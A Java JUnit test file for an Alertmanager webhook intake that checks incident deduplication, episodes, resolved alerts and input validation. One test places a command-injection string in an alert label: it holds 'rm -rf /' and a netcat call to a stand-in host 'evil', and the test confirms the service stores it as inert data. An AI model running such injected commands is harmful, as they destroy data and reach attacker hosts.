package io.spacetime.runbook.starter.intake;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.net.http.HttpResponse;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** Alertmanager's webhook: each notification repeats the group, episodes are fingerprint + startsAt. */
class AlertmanagerWebhookTest {

  @RegisterExtension final IntakeTestbed intake = IntakeTestbed.withWorker();

  private static final String WEBHOOK = "/v1/alerts/alertmanager";

  @Test
  void theSameNotificationTwiceIsOneIncidentWithOneOccurrence() {
    String notification = Alerts.notification(Alerts.highErrorRate("firing", Alerts.FIRST_EPISODE));

    HttpResponse<String> first = intake.post(WEBHOOK, notification);
    HttpResponse<String> repeat = intake.post(WEBHOOK, notification);

    assertThat(first.statusCode()).as(first.body()).isEqualTo(200);
    assertThat(repeat.statusCode()).as(repeat.body()).isEqualTo(200);
    assertThat(IntakeTestbed.json(first).at("/accepted/0/delivered").asText()).isEqualTo("sent");
    assertThat(IntakeTestbed.json(repeat).at("/accepted/0/delivered").asText()).isEqualTo("duplicate");
    assertThat(intake.sentToTemporal()).containsExactly("signalWithStart IncidentWorkflow " + Alerts.KEY);
    JsonNode state = acknowledge(Alerts.KEY);
    assertThat(state.get("notifications").asInt()).as("signals the incident received").isEqualTo(1);
    assertThat(state.get("occurrences").asInt()).isEqualTo(1);
  }

  @Test
  void aNewStartsAtUnderTheSameFingerprintIsANewEpisodeOfTheSameIncident() {
    intake.post(WEBHOOK, Alerts.notification(Alerts.highErrorRate("firing", Alerts.FIRST_EPISODE)));
    HttpResponse<String> refired = intake.post(WEBHOOK, Alerts.notification(Alerts.highErrorRate("firing", Alerts.SECOND_EPISODE)));

    assertThat(IntakeTestbed.json(refired).at("/accepted/0/delivered").asText()).isEqualTo("sent");
    assertThat(intake.sentToTemporal()).containsExactly("signalWithStart IncidentWorkflow " + Alerts.KEY,
        "signalWithStart IncidentWorkflow " + Alerts.KEY);
    assertThat(acknowledge(Alerts.KEY).get("occurrences").asInt()).isEqualTo(2);
  }

  @Test
  void aResolvedAlertIsRecordedOnTheOpenIncidentAndResolvesNothing() {
    intake.post(WEBHOOK, Alerts.notification(Alerts.highErrorRate("firing", Alerts.FIRST_EPISODE)));
    HttpResponse<String> resolved = intake.post(WEBHOOK, Alerts.notification(Alerts.highErrorRate("resolved", Alerts.FIRST_EPISODE)));

    assertThat(resolved.statusCode()).as(resolved.body()).isEqualTo(200);
    assertThat(intake.sentToTemporal()).containsExactly("signalWithStart IncidentWorkflow " + Alerts.KEY,
        "signal alert " + Alerts.KEY);
    JsonNode state = acknowledge(Alerts.KEY);
    assertThat(state.get("resolveCandidates").get(0).asText()).isEqualTo(Alerts.FINGERPRINT);
    assertThat(state.get("status").asText()).isEqualTo("INVESTIGATING");
  }

  @Test
  void aResolvedAlertWithoutAnOpenIncidentStartsNone() {
    HttpResponse<String> resolved = intake.post(WEBHOOK, Alerts.notification(Alerts.highErrorRate("resolved", Alerts.FIRST_EPISODE)));

    assertThat(resolved.statusCode()).as(resolved.body()).isEqualTo(200);
    assertThat(IntakeTestbed.json(resolved).at("/accepted/0/delivered").asText()).isEqualTo("no open incident");
    intake.assertNoRun(Alerts.KEY);
  }

  @Test
  void aResolvedAlertAfterTheIncidentClosedReopensNothing() {
    intake.post(WEBHOOK, Alerts.notification(Alerts.highErrorRate("firing", Alerts.FIRST_EPISODE)));
    HttpResponse<String> resolvedByAPerson = intake.post("/v1/incidents/" + Alerts.KEY + "/resolve",
        "{\"by\":\"alice\",\"summary\":\"rolled back\",\"rootCause\":\"bad release\"}");
    assertThat(resolvedByAPerson.statusCode()).as(resolvedByAPerson.body()).isEqualTo(200);

    HttpResponse<String> late = intake.post(WEBHOOK, Alerts.notification(Alerts.highErrorRate("resolved", Alerts.FIRST_EPISODE)));

    assertThat(late.statusCode()).as(late.body()).isEqualTo(200);
    assertThat(IntakeTestbed.json(late).at("/accepted/0/delivered").asText()).isEqualTo("no open incident");
    assertThat(intake.temporal().newUntypedWorkflowStub(Alerts.KEY).describe().getStatus())
        .isEqualTo(io.temporal.api.enums.v1.WorkflowExecutionStatus.WORKFLOW_EXECUTION_STATUS_COMPLETED);
  }

  @Test
  void anAlertWithoutAKnownTypeIsRefusedWith422WhileTheOthersOpenTheirIncidents() {
    Map<String, Object> untyped = Alerts.alert("firing", "0123456789abcdef", Alerts.FIRST_EPISODE,
        Map.of("alertname", "SomethingElse", "environment", "production"));

    HttpResponse<String> response = intake.post(WEBHOOK,
        Alerts.notification(Alerts.highErrorRate("firing", Alerts.FIRST_EPISODE), untyped));

    assertThat(response.statusCode()).as(response.body()).isEqualTo(422);
    JsonNode body = IntakeTestbed.json(response);
    assertThat(body.at("/rejected/0/field").asText()).isEqualTo("alerts[1].labels.incident_type");
    assertThat(body.at("/rejected/0/error").asText()).contains("SomethingElse").contains("--type-for")
        .contains("high-error-rate");
    assertThat(intake.sentToTemporal()).containsExactly("signalWithStart IncidentWorkflow " + Alerts.KEY);
    intake.assertNoRun("incident-production-fp-0123456789abcdef");
  }

  @Test
  void truncatedAlertsAreReportedInTheAnswerAndTheLog() {
    HttpResponse<String> response = intake.post(WEBHOOK,
        Alerts.notification(3, Alerts.highErrorRate("firing", Alerts.FIRST_EPISODE)));

    assertThat(response.statusCode()).isEqualTo(200);
    assertThat(IntakeTestbed.json(response).get("truncatedAlerts").asInt()).isEqualTo(3);
    assertThat(intake.logLines()).anyMatch(line -> line.contains("left 3 alert(s) out"));
  }

  @Test
  void shellMetacharactersInLabelsAreCarriedAsData() {
    String hostile = "$(touch /tmp/pwned); rm -rf / `id` | nc evil 1 && echo '\"'";
    Map<String, String> labels = new java.util.HashMap<>(Alerts.typedLabels());
    labels.put("job", hostile);

    HttpResponse<String> response = intake.post(WEBHOOK,
        Alerts.notification(Alerts.alert("firing", Alerts.FINGERPRINT, Alerts.FIRST_EPISODE, labels)));

    assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
    acknowledge(Alerts.KEY);
    JsonNode timeline = IntakeTestbed.json(intake.get("/v1/incidents/" + Alerts.KEY)).get("timeline");
    JsonNode alert = null;
    for (JsonNode event : timeline) {
      if (event.get("kind").asText().equals("ALERT")) {
        alert = event;
      }
    }
    assertThat(alert).isNotNull();
    assertThat(alert.at("/evidence/job").asText()).isEqualTo(hostile);
  }

  @Test
  void aVersionOtherThanFourIsRefusedAndStartsNothing() {
    Map<String, Object> body = Alerts.body(0, java.util.List.of(Alerts.highErrorRate("firing", Alerts.FIRST_EPISODE)));
    body.put("version", "3");

    HttpResponse<String> response = intake.post(WEBHOOK, Alerts.write(body));

    assertThat(response.statusCode()).isEqualTo(422);
    assertThat(IntakeTestbed.json(response).get("field").asText()).isEqualTo("version");
    assertThat(intake.sentToTemporal()).isEmpty();
    intake.assertNoRun(Alerts.KEY);
  }

  @Test
  void fieldsANewerAlertmanagerAddsAreReportedNotRefused() {
    Map<String, Object> body = Alerts.body(0, java.util.List.of(Alerts.highErrorRate("firing", Alerts.FIRST_EPISODE)));
    body.put("notification_reason", "repeat");

    HttpResponse<String> response = intake.post(WEBHOOK, Alerts.write(body));

    assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
    assertThat(IntakeTestbed.json(response).get("ignoredFields").get(0).asText()).isEqualTo("notification_reason");
  }

  /** Acknowledges through the intake; the update is processed after every signal before it, so its answer sees them. */
  private JsonNode acknowledge(String key) {
    HttpResponse<String> ack = intake.post("/v1/incidents/" + key + "/ack", "{\"by\":\"alice\"}");
    assertThat(ack.statusCode()).as(ack.body()).isEqualTo(200);
    return IntakeTestbed.json(ack);
  }
}
